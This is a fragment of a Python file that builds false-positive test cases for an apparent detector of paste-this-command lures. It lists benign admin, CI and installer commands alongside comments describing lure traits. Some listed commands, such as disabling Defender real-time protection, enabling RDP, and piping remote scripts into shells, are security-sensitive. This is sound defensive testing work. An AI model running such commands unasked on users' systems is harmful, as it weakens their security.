    "https://intranet.harrowfield.example",
    "quickassist",
    "slui 4",
    "fsmgmt.msc",
    "printmanagement.msc",
    "dfrgui",
    "colorcpl",
]

EXPLORER = [
    "C:\\Program Files\\Microsoft Office\\root\\Office16",
    "%appdata%\\Code\\User",
    "\\\\fs01\\scans",
    "\\\\nas01.harrowfield.example\\backup",
    "shell:downloads",
    "Control Panel\\All Control Panel Items\\Power Options",
    "Control Panel\\Network and Internet\\Network Connections",
    "C:\\Users\\Public\\Documents",
    "%localappdata%\\Packages",
    "D:\\Projects\\website\\dist",
    "C:\\Windows\\Logs\\CBS",
    "ftp://ftp.example.com/pub/",
    "%USERPROFILE%\\OneDrive - Harrowfield\\Documents",
    "This PC\\Documents",
    "Recycle Bin",
    "shell:::{26EE0668-A00A-44D7-9371-BEB064C98683}",
    "\\\\wsl$\\Ubuntu\\home",
    "\\\\wsl.localhost\\Ubuntu-24.04\\home\\jane",
    "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs",
    "\\\\sharepoint.harrowfield.example@SSL\\DavWWWRoot\\sites\\finance",
]

# -- (h) config/log snippets, stack traces, CI YAML, Dockerfiles, Makefiles, crontab ------------

SNIPPETS = [
    (
        "https://github.com/harrowfield/api/blob/main/.github/workflows/ci.yml",
        "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
        "      - name: Install uv\n        run: curl -LsSf https://astral.sh/uv/install.sh | sh\n      - run: uv sync\n      - run: uv run pytest -q",
    ),
    (
        "https://github.com/quillmere/site/blob/main/.gitlab-ci.yml",
        "deploy:\n  stage: deploy\n  image: alpine:3.20\n  before_script:\n    - apk add --no-cache curl bash\n"
        "    - curl -fsSL https://get.pulumi.com | sh\n  script:\n    - pulumi up --yes --stack prod",
    ),
    (
        "https://github.com/harrowfield/api/blob/main/Dockerfile",
        "FROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl "
        "&& rm -rf /var/lib/apt/lists/*\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n"
        'ENV PATH="/root/.local/bin:$PATH"\nCOPY . /app\nWORKDIR /app\nRUN uv sync --frozen\n'
        'CMD ["uv", "run", "gunicorn", "app:create_app()"]',
    ),
    (
        "https://github.com/quillmere/rust-svc/blob/main/Dockerfile",
        "FROM debian:bookworm-slim AS build\nRUN apt-get update && apt-get install -y curl build-essential\n"
        "RUN curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal\n"
        'ENV PATH="/root/.cargo/bin:${PATH}"',
    ),
    (
        "https://github.com/harrowfield/tools/blob/main/Makefile",
        ".PHONY: test lint\n\ntest:\n\tgo test ./... -race -count=1\n\nlint:\n\tgolangci-lint run ./...\n\n"
        "install-tools:\n\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(shell go env GOPATH)/bin",
    ),
    (
        "https://github.com/quillmere/ops/blob/main/crontab.txt",
        "# m h dom mon dow command\n*/5 * * * * /usr/local/bin/healthcheck.sh > /dev/null 2>&1\n"
        '0 3 * * 0 /usr/bin/certbot renew --quiet --post-hook "systemctl reload nginx"',
    ),
    (
        "https://stackoverflow.com/questions/12345678/python-traceback",
        'Traceback (most recent call last):\n  File "/app/main.py", line 42, in <module>\n    '
        'main()\n  File "/app/main.py", line 37, in main\n    resp = requests.get(url, timeout=5)\n'
        "requests.exceptions.ConnectTimeout: HTTPSConnectionPool(host='api.example.com', port=443): "
        "Max retries exceeded with url: /v1/items",
    ),
    (
        "https://github.com/harrowfield/api/issues/431",
        'java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n'
        "\tat com.harrowfield.api.UserService.normalize(UserService.java:88)\n\tat "
        "com.harrowfield.api.UserController.create(UserController.java:41)",
    ),
    (
        "https://github.com/quillmere/web/issues/77",
        "Error: Cannot find module 'next/dist/compiled/webpack/webpack'\nRequire stack:\n- "
        "/home/runner/work/web/node_modules/next/dist/build/index.js\n    at Module._resolveFilename "
        "(node:internal/modules/cjs/loader:1225:15)",
    ),
    (
        "https://nginx.org/en/docs/http/configuring_https_servers.html",
        "server {\n    listen 443 ssl;\n    server_name www.example.com;\n    ssl_certificate "
        "/etc/ssl/certs/www.example.com.crt;\n    ssl_certificate_key /etc/ssl/private/www.example.com.key;\n"
        "    location / { proxy_pass http://127.0.0.1:8080; }\n}",
    ),
    (
        "https://docs.docker.com/compose/gettingstarted/",
        'services:\n  web:\n    build: .\n    ports:\n      - "8000:5000"\n  redis:\n    image: "redis:alpine"',
    ),
    (
        "https://kubernetes.io/docs/concepts/workloads/controllers/deployment/",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: nginx-deployment\nspec:\n  "
        "replicas: 3\n  selector:\n    matchLabels:\n      app: nginx\n  template:\n    metadata:\n      "
        "labels:\n        app: nginx\n    spec:\n      containers:\n      - name: nginx\n        image: nginx:1.27.3",
    ),
    (
        "https://github.com/harrowfield/api/blob/main/.env.example",
        "DATABASE_URL=postgres://app:app@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0\n"
        "SECRET_KEY=change-me\nALLOWED_HOSTS=localhost,127.0.0.1",
    ),
    (
        "https://learn.microsoft.com/en-us/azure/devops/pipelines/yaml-schema/",
        "steps:\n- task: PowerShell@2\n  inputs:\n    targetType: inline\n    script: |\n      "
        "Invoke-WebRequest https://dot.net/v1/dotnet-install.ps1 -OutFile dotnet-install.ps1\n      "
        "./dotnet-install.ps1 -Channel 9.0",
    ),
    (
        "https://circleci.com/docs/configuration-reference/",
        "version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:22.11\n    steps:\n"
        "      - checkout\n      - run: npm ci\n      - run: npm test",
    ),
    (
        "https://github.com/quillmere/infra/blob/main/cloud-init.yaml",
        "#cloud-config\npackage_update: true\npackages:\n  - docker.io\n  - fail2ban\nruncmd:\n"
        "  - curl -fsSL https://tailscale.com/install.sh | sh\n  - tailscale up --authkey ${TS_AUTHKEY}",
    ),
    (
        "https://www.example.com/var/log/auth.log",
        "Dec  7 03:12:44 web01 sshd[2231]: Failed password for invalid user admin from "
        "203.0.113.9 port 51234 ssh2\nDec  7 03:12:46 web01 sshd[2231]: Connection closed by "
        "invalid user admin 203.0.113.9 port 51234 [preauth]",
    ),
    (
        "https://github.com/harrowfield/api/actions/runs/1234",
        "Run npm ci\nnpm warn deprecated inflight@1.0.6: This module is not supported, and leaks memory.\n"
        "added 1284 packages, and audited 1285 packages in 41s\nfound 0 vulnerabilities",
    ),
    (
        "https://github.com/quillmere/win-app/blob/main/build.ps1",
        "param([string]$Configuration = 'Release')\n$ErrorActionPreference = 'Stop'\ndotnet restore\n"
        "dotnet build -c $Configuration --no-restore\ndotnet test -c $Configuration --no-build --logger trx",
    ),
    (
        "https://github.com/harrowfield/ops/blob/main/ansible/site.yml",
        "- hosts: web\n  become: true\n  tasks:\n    - name: Install nginx\n      ansible.builtin.apt:\n"
        "        name: nginx\n        state: present\n        update_cache: true",
    ),
    (
        "https://github.com/quillmere/app/blob/main/package.json",
        '{\n  "scripts": {\n    "dev": "vite",\n    "build": "tsc -b && vite build",\n'
        '    "postinstall": "husky",\n    "lint": "eslint ."\n  }\n}',
    ),
    (
        "https://github.com/harrowfield/api/blob/main/.pre-commit-config.yaml",
        "repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.8.1\n    hooks:\n"
        "      - id: ruff\n        args: [--fix]\n      - id: ruff-format",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/eventlog/event-logging",
        "Log Name:      Application\nSource:        Application Error\nEvent ID:      1000\nLevel:         "
        "Error\nDescription:\nFaulting application name: OUTLOOK.EXE, version: 16.0.18129.20158\n"
        "Faulting module name: ntdll.dll",
    ),
    (
        "https://github.com/harrowfield/ops/blob/main/systemd/app.service",
        "[Unit]\nDescription=App server\nAfter=network-online.target\n\n[Service]\nUser=app\n"
        "ExecStart=/opt/app/venv/bin/gunicorn -w 4 -b 127.0.0.1:8000 app:app\nRestart=on-failure\n\n"
        "[Install]\nWantedBy=multi-user.target",
    ),
    (
        "https://github.com/quillmere/dotfiles/blob/main/.ssh/config",
        "Host bastion\n  HostName 203.0.113.5\n  User jane\n  IdentityFile ~/.ssh/id_ed25519\n\n"
        "Host db-*\n  ProxyJump bastion\n  User ubuntu",
    ),
    (
        "https://github.com/harrowfield/web/blob/main/vercel.json",
        '{\n  "rewrites": [{ "source": "/api/(.*)", "destination": "https://api.harrowfield.example/$1" }],\n'
        '  "headers": [{ "source": "/(.*)", "headers": [{ "key": "X-Frame-Options", "value": "DENY" }] }]\n}',
    ),
]

# -- cleared techniques and the look-alikes that try to abuse them --------------------------------

CHECK_PAGE = "https://verify-human.umbra-stage.test/captcha/step2"
LURE_HOST = "https://cdn.umbra-stage.test"

LEFT = {
    # another page's `curl … | sh` of a tool whose host is neither the page's nor on the trust
    # list (a shared host's unvouched owner for github.com): a warning by design (issue 9: a
    # plain pipe into a shell from a page with no lure trait; design16 weighs this class)
    "fp16-ok-other-readme-installer-32": "unknown host pipe to shell",
    "fp16-ok-other-readme-installer-38": "unknown host pipe to shell",
    "fp16-ok-other-readme-installer-42": "github.com owner not the page's, pipe to shell",
    "fp16-ok-other-readme-installer-45": "unknown host pipe to shell",
    "fp16-ok-other-readme-installer-46": "unknown host pipe to shell",
    "fp16-ok-other-readme-installer-48": "unknown host pipe to shell",
    # a one-line sentence whose command starts outside its quotes ("Observed command: powershell
    # -w h -c \"…\""): an order followed by a command, as a lure's instructions are written
    "fp16-ok-writeup-quoting-lure-12": "order then command on one line",
    # a WebDAV path (\\host@SSL\DavWWWRoot): any web server's files, whoever types it
    "fp16-ok-explorer-bar-everyday-20": "WebDAV path in the address bar",
    # turning Defender's real-time protection off: a lure's act, whoever documents it
    "fp16-ok-vendor-admin-windows-160": "Defender real-time protection off",
    # a package downloaded and installed with no page to vouch for it (as fpsweep15 left it)
    "fp16-ok-vendor-admin-linux-111": "dpkg -i of a download, no page",
    # a sample's lure words (the fake check's comment) keep their weight in a report: the
    # disguise is the lure's wherever it stands
    "fp16-ok-writeup-quoting-lure-15": "fake check words in a quoted sample",
    # a process tree: no sentences, the command line in it reads as one
    "fp16-ok-writeup-quoting-lure-23": "EDR process tree",
    # a scam pop-up's words quoted whole: a scam text is what it is wherever it is pasted
    "fp16-ok-writeup-quoting-lure-26": "scam pop-up quoted whole",
    # typed, but a script host or installer given something (cmd /c, msiexec from a share,
    # PowerShell with the policy bypassed on a share's script) or regedit with a switch
    "fp16-ok-run-box-everyday-105": "typed cmd /c",
    "fp16-ok-run-box-everyday-107": "typed msiexec from a share",
    "fp16-ok-run-box-everyday-119": "typed powershell bypass from a share",
    "fp16-ok-run-box-everyday-122": "typed regedit /m",
    # a Dockerfile's RUN lines downloading from a shared host and starting what was saved: a
    # continuation line of a Dockerfile runs in a shell, so its text is not inert
    "fp16-ok-config-log-snippet-36": "Windows Dockerfile download and start",
    # where the target is unknown, what a defanged sample does without its address still
    # counts: decoding into a shell, a hidden window started from %TEMP%, a headless console
    "fp16-ok-defanged-sample-block-03": "decode to shell, target unknown",
    "fp16-ok-defanged-sample-block-15": "hidden start from temp, target unknown",
    "fp16-ok-defanged-sample-block-18": "headless console, target unknown",
}


def quoted_installers(book: Book) -> None:
    for i, (page, text) in enumerate(QUOTED_INSTALLERS):
        book.add("other-readme-installer", text, "not_flagged", "any", TERMINAL, page)
        if i % 5 == 2:
            book.add("other-readme-installer", text, "not_flagged", "any", UNKNOWN, page)


def admin(book: Book) -> None:
    for i, (page, text) in enumerate(WIN_ADMIN):
        book.add("vendor-admin-windows", text, "not_flagged", "windows", TERMINAL, page)
        if i % 4 == 1:
            book.add("vendor-admin-windows", text, "not_flagged", "windows", UNKNOWN, None)
    for i, (page, text) in enumerate(NIX_ADMIN):
        book.add("vendor-admin-linux", text, "not_flagged", "linux", TERMINAL, page)
        if i % 4 == 1:
            book.add("vendor-admin-linux", text, "not_flagged", "linux", UNKNOWN, None)
    for i, (page, text) in enumerate(MAC_ADMIN):
        book.add("vendor-admin-macos", text, "not_flagged", "macos", TERMINAL, page)
        if i % 4 == 1:
            book.add("vendor-admin-macos", text, "not_flagged", "macos", UNKNOWN, None)


def console(book: Book) -> None:
    for i, (page, text) in enumerate(CONSOLE_SNIPPETS):
        book.add("console-snippet", text, "not_flagged", "any", CONSOLE, page)
        if i % 3 == 1:
            book.add("console-snippet", text, "not_flagged", "any", UNKNOWN, None)


def writeups(book: Book) -> None:
    for i, (page, text) in enumerate(WRITEUPS):
        book.add("writeup-quoting-lure", text, "not_flagged", "any", (UNKNOWN, OTHER)[i % 2], page)


def mails(book: Book) -> None:
    for i, (app, text) in enumerate(MAILS):
        book.add("support-mail-phone", text, "not_flagged", "any", (OTHER, UNKNOWN)[i % 2], app)


def oauth(book: Book) -> None:
    for i, (page, text) in enumerate(OAUTH):
        book.add("oauth-docs", text, "not_flagged", "any", (UNKNOWN, TERMINAL, OTHER)[i % 3], page)


def runbox(book: Book) -> None:
    for text in RUNBOX:
        book.add("run-box-everyday", text, "not_flagged", "windows", RUN, None)
    for text in EXPLORER:
        book.add("explorer-bar-everyday", text, "not_flagged", "windows", BAR, None)


def snippets(book: Book) -> None:
    for i, (page, text) in enumerate(SNIPPETS):
        book.add(
            "config-log-snippet",
            text,
            "not_flagged",
            "any",
            (UNKNOWN, OTHER, TERMINAL)[i % 3],
            page,
        )


# -- a second round, harder: the ordinary texts whose words are also a lure's ----------------------

WIN_HARD = [
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows",
        'iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_pwsh",
        "pwsh -EncodedCommand ZABpAHIAIAAiAGMAOgBcAHAAcgBvAGcAcgBhAG0AIABmAGkAbABlAHMAIgAgAA==",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_powershell_exe",
        "$command = 'dir \"c:\\program files\" '\n$bytes = [System.Text.Encoding]::Unicode.GetBytes($command)\n$encodedCommand = [Convert]::ToBase64String($bytes)\npowershell.exe -encodedCommand $encodedCommand",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/dev-drive/",
        'Add-MpPreference -ExclusionPath "D:\\DevDrive"',
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/configure-extension-file-exclusions-microsoft-defender-antivirus",
        "Get-MpPreference | Select-Object -ExpandProperty ExclusionExtension",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-hardware/drivers/devtest/bcdedit--set",
        "bcdedit /set {current} safeboot minimal",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-hardware/drivers/devtest/bcdedit--set",
        "bcdedit /deletevalue {current} safeboot",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/vssadmin-list-shadows",
        "vssadmin list shadows /for=C:",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/wmic",
        "wmic bios get serialnumber",
    ),
    (
        "https://www.dell.com/support/kbdoc/en-us/000130711/how-to-find-the-service-tag",
        "wmic csproduct get name, identifyingnumber",
    ),
    (
        "https://superuser.com/questions/1204/uninstall-program-command-line",
        "wmic product where \"name like 'Java%%'\" call uninstall /nointeractive",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/msi/command-line-options",
        "msiexec /x {23170F69-40C1-2702-2408-000001000000} /qn",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/printing/rundll32-printui",
        'rundll32 printui.dll,PrintUIEntry /in /n "\\\\print01\\HR-Laser"',
    ),
    (
        "https://superuser.com/questions/1018/lock-workstation-shortcut",
        "rundll32.exe user32.dll,LockWorkStation",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/schtasks-create",
        'schtasks /create /tn "Nightly Backup" /tr "C:\\Scripts\\backup.cmd" /sc daily /st 02:00 /ru SYSTEM',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/setupapi/run-and-runonce-registry-keys",
        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Greenshot /t REG_SZ /d "\\"C:\\Program Files\\Greenshot\\Greenshot.exe\\"" /f',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/networking/technologies/netsh/netsh-contexts",
        'netsh winhttp set proxy proxy.harrowfield.example:8080 "<local>;*.harrowfield.example"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/networking/technologies/netsh/netsh-contexts",
        "netsh winhttp reset proxy",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/start-process",
        "Start-Process powershell -Verb RunAs",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/start-process",
        'Start-Process -FilePath "$env:TEMP\\VSCodeSetup.exe" -ArgumentList "/VERYSILENT /MERGETASKS=!runcode" -Wait',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-clipboard",
        "Get-Clipboard | Set-Content -Path .\\notes.txt",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/learn/ps101/09-functions",
        'Invoke-Expression -Command ".\\Build.ps1 -Configuration Release"',
    ),
    (
        "https://github.com/microsoft/winget-cli/discussions/1725",
        "Add-AppxPackage -RegisterByFamilyName -MainPackage Microsoft.DesktopAppInstaller_8wekyb3d8bbwe",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/shell/launch",
        'cmd /c start "" "C:\\Program Files\\Mozilla Firefox\\firefox.exe" -safe-mode',
    ),
    (
        "https://stackoverflow.com/questions/7690994/running-a-command-as-administrator-using-powershell",
        'if (-not ([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)) { Start-Process pwsh -Verb RunAs -ArgumentList "-File `"$PSCommandPath`""; exit }',
    ),
    (
        "https://stackoverflow.com/questions/15920248/decode-base64-powershell",
        "[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($env:CI_CONFIG_B64)) | Out-File config.json",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
        "certutil -decode cert.b64 cert.cer",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
        "certutil -addstore -f Root C:\\Temp\\harrowfield-root-ca.cer",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
        "curl.exe -L -o C:\\Temp\\node-v22.12.0-x64.msi https://nodejs.org/dist/v22.12.0/node-v22.12.0-x64.msi",
    ),
    (
        "https://nodejs.org/en/download",
        "winget install Schniz.fnm\nfnm env --use-on-cd | Out-String | Invoke-Expression\nfnm use --install-if-missing 22",
    ),
    (
        "https://github.com/PowerShell/PSReadLine#install",
        "Install-Module PSReadLine -AllowPrerelease -Force -SkipPublisherCheck",
    ),
    (
        "https://ohmyposh.dev/docs/installation/prompt",
        'oh-my-posh init pwsh --config "$env:POSH_THEMES_PATH\\jandedobbeleer.omp.json" | Invoke-Expression',
    ),
    (
        "https://starship.rs/guide/#step-2-set-up-your-shell-to-use-starship",
        "Invoke-Expression (&starship init powershell)",
    ),
    (
        "https://github.com/ajeetdsouza/zoxide#installation",
        "Invoke-Expression (& { (zoxide init powershell | Out-String) })",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/",
        "winget install --id Microsoft.Sysinternals.ProcessMonitor -e",
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/psexec",
        "psexec \\\\PC-0142 -s -i cmd.exe",
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/autoruns",
        "autorunsc -a * -c -h -s -v -vt > autoruns.csv",
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/sigcheck",
        "sigcheck -u -e C:\\Windows\\System32",
    ),
    ("https://live.sysinternals.com/", "\\\\live.sysinternals.com\\tools\\procmon.exe"),
    (
        "https://learn.microsoft.com/en-us/windows/win32/wmisdk/wmic",
        "Get-CimInstance Win32_StartupCommand | Select-Object Name, Command, Location",
    ),
    (
        "https://superuser.com/questions/1543241/how-to-disable-windows-defender-temporarily",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
    ),
    (
        "https://learn.microsoft.com/en-us/answers/questions/123/remote-desktop-enable",
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f\nnetsh advfirewall firewall set rule group="remote desktop" new enable=Yes',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/operating-system-security/network-security/windows-firewall/",
        'New-NetFirewallRule -DisplayName "Allow WinRM HTTPS" -Direction Inbound -Protocol TCP -LocalPort 5986 -Action Allow',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/security/remoting/winrm-security",
        "Enable-PSRemoting -Force\nSet-Item WSMan:\\localhost\\Client\\TrustedHosts -Value '10.0.0.*' -Force",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/invoke-command",
        "Invoke-Command -ComputerName PC-0142, PC-0143 -ScriptBlock { Get-Service WinRM }",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/enter-pssession",
        "Enter-PSSession -ComputerName srv-app01.harrowfield.example -Credential HARROWFIELD\\admin.jane",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/client-management/manage-recall",
        "DISM /Online /Disable-Feature /FeatureName:Recall",
    ),
    ("https://www.tenforums.com/tutorials/", "Get-AppxPackage *xbox* | Remove-AppxPackage"),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/shell-experience/",
        "taskkill /f /im explorer.exe & start explorer.exe",
    ),
    (
        "https://www.elevenforum.com/t/restore-classic-context-menu-in-windows-11.1791/",
        'reg.exe add "HKCU\\Software\\Classes\\CLSID\\{86ca1aa0-34aa-4e8b-a509-50c905bae2a2}\\InprocServer32" /f /ve\ntaskkill /f /im explorer.exe\nstart explorer.exe',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/deployment/update/waas-wu-settings",
        "UsoClient StartScan",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/privacy/manage-connections-from-windows-operating-system-components-to-microsoft-services",
        'New-ItemProperty -Path "HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\DataCollection" -Name AllowTelemetry -Value 0 -PropertyType DWord -Force',
    ),
    (
        "https://chocolatey.org/install#individual",
        "Get-ExecutionPolicy\nSet-ExecutionPolicy AllSigned",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/shell/app-registration",
        'Start-Process "ms-settings:appsfeatures"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/terminal/command-line-arguments",
        'wt -p "Ubuntu" ; split-pane -p "PowerShell" ; focus-tab -t 0',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/openssh/openssh_install_firstuse",
        "Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0\nStart-Service sshd\nSet-Service -Name sshd -StartupType 'Automatic'",
    ),
    ("https://github.com/microsoft/WSL/issues/4103", "wsl --manage Ubuntu --set-sparse true"),
    (
        "https://learn.microsoft.com/en-us/windows/win32/shell/csidl",
        "[Environment]::GetFolderPath('LocalApplicationData')",
    ),
    (
        "https://stackoverflow.com/questions/1011/powershell-download-file",
        "(New-Object System.Net.WebClient).DownloadFile('https://github.com/git-for-windows/git/releases/download/v2.47.1.windows.1/Git-2.47.1-64-bit.exe', \"$env:USERPROFILE\\Downloads\\Git-2.47.1-64-bit.exe\")",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/bitsadmin-examples",
        "bitsadmin /transfer myDownloadJob /download /priority normal https://download.sysinternals.com/files/SysinternalsSuite.zip C:\\Temp\\SysinternalsSuite.zip",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/cmdkey",
        "cmdkey /list",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/runas",
        'runas /user:HARROWFIELD\\admin.jane "mmc dsa.msc"',
    ),
    ("https://learn.microsoft.com/en-us/windows/win32/secauthz/access-tokens", "whoami /priv"),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.security/get-credential",
        "$cred = Get-Credential -UserName 'HARROWFIELD\\svc-backup' -Message 'Backup account'",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-childitem",
        "Get-ChildItem -Path $env:APPDATA\\Microsoft\\Windows\\Recent -Filter *.lnk | Sort-Object LastWriteTime -Descending | Select-Object -First 20",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/remove-item",
        'Remove-Item -Path "$env:LOCALAPPDATA\\Microsoft\\Teams\\Cache\\*" -Recurse -Force',
    ),
    (
        "https://learn.microsoft.com/en-us/microsoftteams/troubleshoot/teams-administration/clear-teams-cache",
        'Stop-Process -Name ms-teams -Force; Remove-Item -Recurse -Force "$env:LOCALAPPDATA\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams"',
    ),
    ("https://support.microsoft.com/en-us/office/reset-outlook", "outlook.exe /resetnavpane"),
]

NIX_HARD = [
    (
        "https://kubernetes.io/docs/concepts/configuration/secret/",
        "echo 'bXlwYXNzd29yZA==' | base64 --decode",
    ),
    ("https://docs.docker.com/engine/security/rootless/", "dockerd-rootless-setuptool.sh install"),
    (
        "https://pip.pypa.io/en/stable/installation/",
        "curl -sSL https://bootstrap.pypa.io/get-pip.py -o get-pip.py\npython3 get-pip.py --user",
    ),
    (
        "https://github.com/nodejs/corepack#readme",
        "curl -sL https://deb.nodesource.com/setup_lts.x -o nodesource_setup.sh\nsudo bash nodesource_setup.sh",
    ),
    (
        "https://code.visualstudio.com/docs/setup/linux",
        "wget -O code.deb 'https://code.visualstudio.com/sha/download?build=stable&os=linux-deb-x64'\nsudo apt install ./code.deb",
    ),
    (
        "https://www.google.com/chrome/",
        "wget https://dl.google.com/linux/direct/google-chrome-stable_current_amd64.deb\nsudo dpkg -i google-chrome-stable_current_amd64.deb\nsudo apt -f install",
    ),
    ("https://discord.com/download", "sudo dpkg -i ~/Downloads/discord-0.0.76.deb"),
    (
        "https://www.raspberrypi.com/documentation/computers/getting-started.html",
        "sudo dd if=2024-11-19-raspios-bookworm-arm64.img of=/dev/sdb bs=4M status=progress conv=fsync",
    ),
    ("https://nmap.org/book/port-scanning-tutorial.html", "nc -zv 203.0.113.10 22 80 443"),
    (
        "https://docs.python.org/3/library/http.server.html",
        "python3 -m http.server 8000 --bind 127.0.0.1",
    ),
    (
        "https://www.ssh.com/academy/ssh/tunneling-example",
        "ssh -L 5432:db.internal.example:5432 jane@bastion.harrowfield.example -N",
    ),
    (
        "https://developers.cloudflare.com/cloudflare-one/connections/connect-networks/do-more-with-tunnels/trycloudflare/",
        "cloudflared tunnel --url http://localhost:8080",
    ),
    ("https://ngrok.com/docs/getting-started/", "ngrok http http://localhost:8080"),
    (
        "https://askubuntu.com/questions/147241/execute-sudo-without-password",
        'echo "deploy ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart app" | sudo tee /etc/sudoers.d/deploy-restart\nsudo chmod 440 /etc/sudoers.d/deploy-restart',
    ),
    (
        "https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/githubs-ssh-key-fingerprints",
        "ssh-keyscan github.com >> ~/.ssh/known_hosts",
    ),
    (
        "https://www.torproject.org/download/",
        "gpg --auto-key-locate nodefault,wkd --locate-keys torbrowser@torproject.org",
    ),
    (
        "https://www.veracrypt.fr/en/Digital%20Signatures.html",
        "curl -sSL https://www.idrix.fr/VeraCrypt/VeraCrypt_PGP_public_key.asc | gpg --import",
    ),
    (
        "https://wiki.debian.org/DebianRepository/UseThirdParty",
        "curl -fsSL https://packages.example.org/key.asc | sudo apt-key add -",
    ),
    (
        "https://github.com/junegunn/fzf#using-git",
        "git clone --depth 1 https://github.com/junegunn/fzf.git ~/.fzf\n~/.fzf/install",
    ),
    ("https://github.com/ohmyzsh/ohmyzsh/wiki/Installing-ZSH", "chsh -s $(which zsh)"),
    (
        "https://docs.helm.sh/docs/intro/install/",
        "curl https://baltocdn.com/helm/signing.asc | gpg --dearmor | sudo tee /usr/share/keyrings/helm.gpg > /dev/null",
    ),
    (
        "https://github.com/sharkdp/bat/releases",
        "curl -sL https://github.com/sharkdp/bat/releases/download/v0.24.0/bat-v0.24.0-x86_64-unknown-linux-musl.tar.gz | tar xz -C /tmp && sudo mv /tmp/bat-v0.24.0-x86_64-unknown-linux-musl/bat /usr/local/bin/",
    ),
    (
        "https://go.dev/doc/install",
        "sudo rm -rf /usr/local/go && sudo tar -C /usr/local -xzf go1.23.4.linux-amd64.tar.gz\nexport PATH=$PATH:/usr/local/go/bin",
    ),
    (
        "https://docs.docker.com/compose/install/linux/",
        "DOCKER_CONFIG=${DOCKER_CONFIG:-$HOME/.docker}\nmkdir -p $DOCKER_CONFIG/cli-plugins\ncurl -SL https://github.com/docker/compose/releases/download/v2.31.0/docker-compose-linux-x86_64 -o $DOCKER_CONFIG/cli-plugins/docker-compose\nchmod +x $DOCKER_CONFIG/cli-plugins/docker-compose",
    ),
    (
        "https://github.com/neovim/neovim/blob/master/INSTALL.md",
